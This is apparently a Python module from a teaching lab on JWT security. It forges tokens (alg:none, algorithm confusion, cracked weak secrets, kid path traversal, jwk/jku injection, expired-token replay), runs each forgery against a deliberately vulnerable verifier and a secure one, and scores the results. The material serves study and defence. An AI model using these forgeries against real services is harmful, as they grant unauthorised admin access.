"""The JWT attack lab: forge tokens the way attackers do, run each forgery against a
⚠️ VULNERABLE verifier (with exactly one flaw) and the secure one, keep the score.

Nothing here is simulated: a forged token is a real string, and "accepted" means the
verifier returned claims with ``role == "admin"`` (or, for the expiry attack, returned
claims of a token past its ``exp``). The scoreboard is computed from those runs.
"""

from __future__ import annotations

import hashlib
import hmac
import html
import time
import warnings
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from sessionlab.labs.lab04a_crack import SUFFIXES, crack_hs256, load_wordlist, weak_secret
from sessionlab.labs.lab04a_injection import attacker_key, forge_jku, forge_jwk_header
from sessionlab.web.tokens import (
    FLAWS,
    TokenError,
    TokenService,
    VulnerableVerifier,
    b64url_encode,
    encode_unsigned,
    hmac_key,
    split_token,
)

__all__ = [
    "load_wordlist",
    "SUFFIXES",
    "crack_hs256",
    "weak_secret",
    "tamper",
    "forge_alg_none",
    "forge_hs256",
    "forge_alg_confusion",
    "forge_kid_path",
    "token_diff",
    "ATTACKS",
    "AttackOutcome",
    "AttackLab",
    "pyjwt_refuses_pem_as_hmac",
]


# --- forging ----------------------------------------------------------------------------


def tamper(token: str, **changes) -> str:
    """Change payload claims and keep the old signature (no key needed, and none used)."""
    header, payload, signature = split_token(token)
    return encode_unsigned(header, {**payload, **changes}, signature)


def forge_alg_none(token: str, **changes) -> str:
    header, payload, _ = split_token(token)
    return encode_unsigned({"alg": "none", "typ": "JWT"}, {**payload, **changes}, b"")


def forge_hs256(token: str, secret: bytes | str, header_changes: dict | None = None, **changes) -> str:
    """Re-sign a (modified) token with HMAC-SHA256 and any bytes as the secret."""
    header, payload, _ = split_token(token)
    header = {**header, "alg": "HS256", **(header_changes or {})}
    if isinstance(secret, str):
        secret = secret.encode("utf-8")
    unsigned = encode_unsigned(header, {**payload, **changes}).rsplit(".", 1)[0]
    sig = hmac.new(secret, unsigned.encode("ascii"), hashlib.sha256).digest()
    return f"{unsigned}.{b64url_encode(sig)}"


def forge_alg_confusion(token: str, public_pem: bytes, **changes) -> str:
    """RS256 → HS256 with the *public* key (which anyone can fetch) as the HMAC secret."""
    return forge_hs256(token, public_pem, **changes)


KID_TRAVERSAL = "../" * 12 + "dev/null"


def forge_kid_path(token: str, **changes) -> str:
    """kid pointing at /dev/null: a verifier that opens kid as a file reads b'' as the key."""
    return forge_hs256(token, b"", header_changes={"kid": KID_TRAVERSAL}, **changes)


def _short(value) -> str:
    """A header value for display: long strings (a JWK's modulus) shortened to their length."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k}: {_short(v)}" for k, v in value.items()) + "}"
    if (
        isinstance(value, str) and len(value) > 40
    ):  # a path keeps its start; key material shows its length only
        return f"'{value[:6]}…'({len(value)}자)" if "/" in value else f"'…'({len(value)}자)"
    return repr(value)


def token_diff(original: str, forged: str) -> list[str]:
    """What changed between two tokens: each segment's length, and each header field and claim."""
    lines = []
    (h0, p0, _), (h1, p1, _) = split_token(original), split_token(forged)
    for name, seg0, seg1 in zip(("header", "payload", "signature"), original.split("."), forged.split(".")):
        lines.append(f"{name:<9}: {len(seg0)}자 → {len(seg1)}자" + ("" if seg0 != seg1 else " (그대로)"))
    for part, a, b in (("header", h0, h1), ("payload", p0, p1)):
        for key in [*a, *(k for k in b if k not in a)]:
            if a.get(key) != b.get(key):
                lines.append(
                    f"  {part}.{key}: {_short(a.get(key, '(없음)'))} → {_short(b.get(key, '(없음)'))}"
                )
    return lines


# --- the lab ------------------------------------------------------------------------------

ATTACKS = {
    "no_signature": ("서명 미검증 (payload 변조)", "no_signature"),
    "alg_none": ("alg: none", "alg_none"),
    "weak_secret": ("약한 HS256 비밀 키 (사전 공격)", "weak_secret"),
    "alg_confusion": ("알고리즘 혼동 (RS256 공개 키 → HS256)", "alg_from_header"),
    "no_exp": ("만료(exp) 미확인", "no_exp"),
    "kid_path": ("kid 경로 조작 (path traversal)", "kid_path"),
    "jwk_header": ("jwk 헤더 주입 (공격자 키 내장)", "jwk_header"),
    "jku_header": ("jku 헤더 주입 (공격자 키 서버)", "jku_header"),
}


@dataclass
class AttackOutcome:
    attack: str
    title: str
    flaw: str
    vulnerable_accepted: bool
    vulnerable_detail: str
    secure_blocked: bool
    secure_code: str
    secure_reason: str
    http_status: int | None = None
    original: str = ""  # the genuine token the forgery started from
    token: str = ""  # the forged token sent to the secure verifier and app
    http_answer: dict = field(default_factory=dict)  # the secure app's JSON answer
    www_authenticate: str = ""

    def details(self) -> str:
        """The forged token next to its original (what changed), and the secure app's answer."""
        h, p, _ = split_token(self.token)
        lines = [f"위조 토큰 header : {_short(h)}"]
        lines.append(f"위조 토큰 payload: sub={p.get('sub')!r}, role={p.get('role')!r}, typ={p.get('typ')!r}")
        lines += ["원본과 다른 곳:", *token_diff(self.original, self.token)]
        if self.http_status is not None:
            code, reason = self.http_answer.get("code", ""), self.http_answer.get("reason", "")
            lines.append(f"보안 앱의 대답: HTTP {self.http_status} {code} — {reason}")
            lines.append(f"  WWW-Authenticate: {self.www_authenticate}")
        return "\n".join(lines)

    @property
    def as_expected(self) -> bool:
        return self.vulnerable_accepted and self.secure_blocked and self.http_status in (None, 401)

    def __repr__(self) -> str:
        v = "⚠️ 뚫림(accepted)" if self.vulnerable_accepted else f"막힘({self.vulnerable_detail})"
        s = f"막힘: {self.secure_code}" if self.secure_blocked else "⚠️ 뚫림(accepted)"
        http = f", 보안 앱 HTTP {self.http_status}" if self.http_status is not None else ""
        return f"[{self.title}] 취약 버전: {v} | 보안 버전: {s}{http}"


@contextmanager
def _quiet_short_keys(record: list | None = None):
    """PyJWT warns about HMAC keys under 32 bytes; the weak-secret lab uses one on purpose.
    The warnings are kept (in ``record``) so the lab can show that PyJWT did warn."""
    import jwt

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always", jwt.InsecureKeyLengthWarning)
        yield
    if record is not None:
        record.extend(w for w in caught if issubclass(w.category, jwt.InsecureKeyLengthWarning))


def _attempt(verifier, token, want) -> tuple[bool, str]:
    try:
        claims = verifier.verify(token)
    except TokenError as exc:
        return False, exc.code
    return want(claims), "accepted"


@dataclass
class AttackLab:
    """One attacker, one secure service, and a ⚠️ VULNERABLE verifier per flaw.

    ``run(name)`` performs one attack against both and records the outcome;
    ``scoreboard()`` is the table of every outcome recorded so far.
    """

    secure: TokenService
    words: list = field(default_factory=load_wordlist)
    app_url: str | None = None
    results: dict = field(default_factory=dict)
    cracked: dict = field(default_factory=dict)
    pyjwt_warnings: list = field(default_factory=list)
    attacker_url: str | None = None  # where the attacker serves its key set (for the jku attack)
    last_original: str = ""

    def __post_init__(self):
        self.attacker_key = attacker_key()
        self.weak_secret = weak_secret(self.words)
        # ⚠️ VULNERABLE: correct code, but a guessable HS256 secret.
        self.weak = TokenService(keys={"HS256": hmac_key(self.weak_secret)}, alg="HS256")

    def vulnerable(self, flaw: str) -> VulnerableVerifier:
        """⚠️ VULNERABLE verifier with exactly one flaw (see ``tokens.FLAWS``)."""
        return VulnerableVerifier(self.secure.keys, flaws=(flaw,))

    def victim_token(self, alg: str = "HS256", **kw) -> str:
        return self.secure.issue("alice", alg=alg, role="user", **kw)

    def crack(self, progress: bool = True) -> dict:
        """The dictionary attack on a token of each service (weak secret, random secret)."""
        with _quiet_short_keys(self.pyjwt_warnings):
            weak_token = self.weak.issue("alice", role="user")
        strong_token = self.victim_token()
        self.cracked = {
            "weak": (weak_token, crack_hs256(weak_token, self.words, progress=progress)),
            "secure": (strong_token, crack_hs256(strong_token, self.words, progress=progress)),
        }
        return {k: v[1] for k, v in self.cracked.items()}

    def forge(self, name: str) -> tuple[str, str, object]:
        """(token for the vulnerable side, token for the secure side, vulnerable verifier).

        The genuine token the secure-side forgery started from is kept in ``self.last_original``.
        """
        admin: dict[str, Any] = {"role": "admin"}
        victim = self.victim_token()
        self.last_original = victim
        if name == "jwk_header":
            t = forge_jwk_header(victim, self.attacker_key, **admin)
            return t, t, self.vulnerable("jwk_header")
        if name == "jku_header":
            if not self.attacker_url:
                raise ValueError(
                    "jku 공격에는 공격자의 키 서버가 필요합니다: lab.attacker_url = 공격자 서버 URL"
                )
            t = forge_jku(victim, self.attacker_key, f"{self.attacker_url.rstrip('/')}/jwks.json", **admin)
            return t, t, self.vulnerable("jku_header")
        if name == "no_signature":
            t = tamper(victim, **admin)
            return t, t, self.vulnerable("no_signature")
        if name == "alg_none":
            t = forge_alg_none(victim, **admin)
            return t, t, self.vulnerable("alg_none")
        if name == "alg_confusion":
            pem = self.secure.keys["RS256"].public_pem()  # public: anyone can fetch it
            self.last_original = self.victim_token("RS256")
            t = forge_alg_confusion(self.last_original, pem, **admin)
            return t, t, self.vulnerable("alg_from_header")
        if name == "no_exp":  # an old admin token, e.g. from a log file, expired an hour ago
            t = self.secure.issue("admin", role="admin", now=time.time() - 7200, ttl=3600)
            self.last_original = t  # genuine: nothing forged, only replayed
            return t, t, self.vulnerable("no_exp")
        if name == "kid_path":
            t = forge_kid_path(victim, **admin)
            return t, t, self.vulnerable("kid_path")
        if name == "weak_secret":
            if not self.cracked:
                self.crack(progress=False)
            weak_token, weak_result = self.cracked["weak"]
            strong_token, strong_result = self.cracked["secure"]
            t_weak = forge_hs256(weak_token, weak_result.secret or "secret", **admin)
            t_strong = forge_hs256(strong_token, strong_result.secret or self.words[0], **admin)
            self.last_original = strong_token
            return t_weak, t_strong, self.weak.verifier
        raise KeyError(f"알 수 없는 공격: {name} (가능: {', '.join(ATTACKS)})")

    def run(self, name: str) -> AttackOutcome:
        title, flaw = ATTACKS[name]
        for_vuln, for_secure, vuln = self.forge(name)
        want = (
            (lambda c: c.get("sub") == "admin") if name == "no_exp" else (lambda c: c.get("role") == "admin")
        )
        with _quiet_short_keys(self.pyjwt_warnings):
            accepted, detail = _attempt(vuln, for_vuln, want)
        s_ok, s_code = _attempt(self.secure.verifier, for_secure, lambda c: True)
        status, challenge = None, ""
        answer: dict = {}
        if self.app_url:
            import requests

            r = requests.get(
                f"{self.app_url}/admin", timeout=5, headers={"Authorization": f"Bearer {for_secure}"}
            )
            status, challenge = r.status_code, r.headers.get("WWW-Authenticate", "")
            answer = r.json() if r.headers.get("Content-Type", "").startswith("application/json") else {}
        reason = TokenError(s_code).reason if not s_ok else ""
        out = AttackOutcome(
            name,
            title,
            FLAWS.get(flaw, "추측 가능한 비밀 키"),
            accepted,
            detail,
            not s_ok,
            s_code if not s_ok else "accepted",
            reason,
            status,
            original=self.last_original,
            token=for_secure,
            http_answer=answer,
            www_authenticate=challenge,
        )
        self.results[name] = out
        return out

    def run_all(self) -> list[AttackOutcome]:
        return [self.run(name) for name in ATTACKS]

    def scoreboard(self) -> Scoreboard:
        return Scoreboard([self.results[n] for n in ATTACKS if n in self.results])


@dataclass
class Scoreboard:
    rows: list

    @property
    def all_as_expected(self) -> bool:
        return bool(self.rows) and all(r.as_expected for r in self.rows)

    def text(self) -> str:
        lines = [f"{'공격':<28} {'취약 버전':<10} {'보안 버전'}"]
        for r in self.rows:
            v = "뚫림" if r.vulnerable_accepted else "막힘"
            s = f"막힘 ({r.secure_code})" if r.secure_blocked else "뚫림"
            if r.http_status is not None:
                s += f", HTTP {r.http_status}"
            lines.append(f"{r.title:<28} {v:<10} {s}")
        return "\n".join(lines)

    __repr__ = text

    def _repr_html_(self) -> str:
        rows = "".join(
            f"<tr><td>{html.escape(r.title)}</td><td>{html.escape(r.flaw)}</td>"
            f"<td>{'⚠️ 뚫림' if r.vulnerable_accepted else '막힘'}</td>"
            f"<td>{'막힘 (' + html.escape(r.secure_code) + ')' if r.secure_blocked else '<b>뚫림</b>'}</td>"
            f"<td>{'' if r.http_status is None else r.http_status}</td></tr>"
            for r in self.rows
        )
        return (
            "<table><tr><th>공격</th><th>취약 버전의 실수</th><th>⚠️ 취약 버전</th>"
            "<th>보안 버전</th><th>보안 앱 HTTP</th></tr>" + rows + "</table>"
        )


def pyjwt_refuses_pem_as_hmac(public_pem: bytes) -> str:
    """What PyJWT says when asked to use a PEM public key as an HMAC secret (it refuses)."""
    import jwt

    try:
        jwt.encode({"sub": "x"}, public_pem, algorithm="HS256")
    except jwt.exceptions.InvalidKeyError as exc:
        return f"{type(exc).__name__}: {exc}"
    return "PyJWT가 거부하지 않았습니다"
